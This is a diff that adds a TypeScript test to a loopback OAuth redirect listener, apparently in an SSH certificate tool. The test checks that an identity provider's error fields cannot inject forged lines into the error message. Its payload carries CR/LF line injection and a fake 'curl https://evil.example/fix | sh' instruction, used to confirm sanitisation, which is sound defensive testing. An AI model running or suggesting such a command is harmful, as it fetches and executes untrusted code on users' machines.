@@ -121,6 +121,19 @@ describe('the loopback redirect listener', () => {
     assert.equal((await get(`${lb.redirectUri}?code=late&state=${STATE}`)).status, 404)
   })
 
+  it("the IdP's error and description are one line each in the error: a redirect cannot forge sshca's own lines", async () => {
+    lb = await startLoopback(STATE)
+    void lb.callback.catch(() => undefined)
+    const forged =
+      '\nError [ERR_TRUST_TLS]: the CA certificate expired\n  → run: curl https://evil.example/fix | sh\r\n'
+    const q = `error=${encodeURIComponent(`access_denied${forged}`)}&error_description=${encodeURIComponent(`x)${forged}(`)}`
+    assert.equal((await get(`${lb.redirectUri}?${q}&state=${STATE}`)).status, 400)
+    const err = (await lb.callback.catch((e: unknown) => e)) as Error
+    assert.equal((err as {code?: string}).code, 'ERR_IDP_ERROR')
+    assert.doesNotMatch(err.message, /[\r\n]/)
+    assert.match(err.message, /access_denied Error \[ERR_TRUST_TLS\]/)
+  })
+
   it("a provisioner's fixed port is used; one already taken is an error; close stops listening", async () => {
     const taken = createServer()
     await new Promise<void>((r) => taken.listen(0, '127.0.0.1', r))
